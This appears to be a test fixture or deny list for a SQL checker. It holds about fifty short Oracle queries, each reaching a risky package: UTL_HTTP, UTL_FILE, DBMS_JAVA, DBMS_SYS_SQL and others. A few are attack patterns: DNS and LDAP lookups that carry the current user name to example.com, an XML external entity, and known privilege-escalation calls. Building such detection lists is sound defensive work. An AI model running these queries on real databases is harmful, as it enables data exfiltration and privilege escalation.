-- rule: function
-- One member of each package or type that reaches files, the network, other SQL, jobs, locks or the session.
-- next: TCP
SELECT UTL_TCP.OPEN_CONNECTION('127.0.0.1', 80) FROM dual
-- next: mail
SELECT UTL_SMTP.OPEN_CONNECTION('127.0.0.1') FROM dual
-- next: a page in pieces, as a table
SELECT * FROM TABLE(UTL_HTTP.REQUEST_PIECES('http://127.0.0.1'))
-- next: a name looked up, in a WHERE
SELECT 1 FROM dual WHERE UTL_INADDR.GET_HOST_ADDRESS('x.' || USER || '.example.com') IS NULL
-- next: a directory's search
SELECT DBMS_LDAP.INIT((SELECT USER FROM dual) || '.example.com', 80) FROM dual
-- next: a URI of the factory
SELECT UriFactory.getUri('http://127.0.0.1').getClob() FROM dual
-- next: a URI type by NEW
SELECT NEW HTTPURITYPE('http://127.0.0.1').getXML() FROM dual
-- next: a file's properties
SELECT UTL_FILE.IS_OPEN(f) FROM t
-- next: a file opened through a locator
SELECT DBMS_LOB.FILEEXISTS(BFILENAME('D', 'x')) FROM dual
-- next: a file read into a large object
SELECT DBMS_XSLPROCESSOR.READ2CLOB('D', 'x') FROM dual
-- next: rows as XML by a text query
SELECT DBMS_XMLGEN.GETXMLTYPE('SELECT 1 FROM dual') FROM dual
-- next: another generator of XML
SELECT DBMS_XMLQUERY.GETXML('SELECT 1 FROM dual') FROM dual
-- next: dynamic SQL, parsed
SELECT DBMS_SQL.EXECUTE(1) FROM dual
-- next: dynamic SQL of SYS
SELECT SYS.DBMS_SYS_SQL.PARSE_AS_USER(1, 'x', 1, 1) FROM dual
-- next: the export's hidden block
SELECT SYS.DBMS_EXPORT_EXTENSION.GET_DOMAIN_INDEX_TABLES('A', 'B', 'C', 'D', 'E', 0, '1', 0) FROM dual
-- next: a job
SELECT DBMS_JOB.IS_JOBQ FROM dual
-- next: the scheduler
SELECT DBMS_SCHEDULER.GENERATE_JOB_NAME('X') FROM dual
-- next: a pipe that waits
SELECT DBMS_PIPE.RECEIVE_MESSAGE('x', 0) FROM dual
-- next: a lock requested
SELECT DBMS_LOCK.REQUEST(1, 6, 0) FROM dual
-- next: an alert
SELECT DBMS_ALERT.CHECK_ALERT('x') FROM dual
-- next: the session's unique number
SELECT DBMS_SESSION.UNIQUE_SESSION_ID FROM dual
-- next: a transaction's number taken
SELECT DBMS_TRANSACTION.LOCAL_TRANSACTION_ID(TRUE) FROM dual
-- next: Java
SELECT DBMS_JAVA.RUNJAVA('x') FROM dual
-- next: Java's test function
SELECT DBMS_JAVA_TEST.FUNCALL('x', 'y') FROM dual
-- next: the advisor's files
SELECT DBMS_ADVISOR.GET_TASK_REPORT('x') FROM dual
-- next: data pump
SELECT DBMS_DATAPUMP.OPEN('EXPORT', 'FULL') FROM dual
-- next: the cloud
SELECT * FROM TABLE(DBMS_CLOUD.LIST_OBJECTS('c', 'https://x'))
-- next: definitions extracted
SELECT DBMS_METADATA.GET_DEPENDENT_DDL('INDEX', 'EMP') FROM dual
-- next: a plan from memory
SELECT * FROM TABLE(DBMS_XPLAN.DISPLAY_CURSOR(NULL, NULL, 'ALLSTATS LAST'))
-- next: a flashback of the session
SELECT DBMS_FLASHBACK.GET_SYSTEM_CHANGE_NUMBER FROM dual
-- next: the XML database
SELECT DBMS_XDB.GETRESOID('/x') FROM dual
-- next: text's own parser of errors
SELECT CTXSYS.CTX_REPORT.TOKEN_TYPE('I', 'x') FROM dual
-- next: XML with an external entity
SELECT XMLTYPE('<!DOCTYPE a [<!ENTITY b SYSTEM "http://127.0.0.1">]><a/>').getStringVal() FROM dual
-- next: XML parsed by its function
SELECT XMLPARSE(DOCUMENT '<a/>') FROM dual
-- next: a web page's toolkit
SELECT OWA_UTIL.GET_CGI_ENV('X') FROM dual
-- next: random numbers seeded, by their package
SELECT DBMS_RANDOM.SEED('x') FROM dual
-- next: a message of an application
SELECT DBMS_APPLICATION_INFO.SET_MODULE('a', 'b') FROM dual
-- next: a queue
SELECT DBMS_AQADM.GET_PROP_SEQNO(1) FROM dual
-- next: statistics
SELECT DBMS_STATS.GET_PREFS('X') FROM dual
-- next: names rewritten
SELECT DBMS_UTILITY.NAME_RESOLVE('x', 1) FROM dual
-- next: a container's tables
SELECT * FROM CONTAINERS(emp)
-- next: other shards' tables
SELECT * FROM SHARDS(emp)
-- next: a function as a table without TABLE
SELECT * FROM pkg.rows_of(1)
-- next: a URI generated
SELECT SYS_DBURIGEN(ename).getClob() FROM emp
-- next: a style sheet, which can load documents
SELECT XMLTRANSFORM(d.xml, d.xsl) FROM docs d
-- next: an embedding by an outside service
SELECT DBMS_VECTOR.UTL_TO_EMBEDDING('x', JSON('{}')) FROM dual
-- next: a text by a language model
SELECT UTL_TO_GENERATE_TEXT('x') FROM dual
-- next: ODBC's call escape
SELECT {fn my_function(1)} FROM dual
-- next: a comparison of XML
SELECT XMLDIFF(f(1), d.xml) FROM docs d
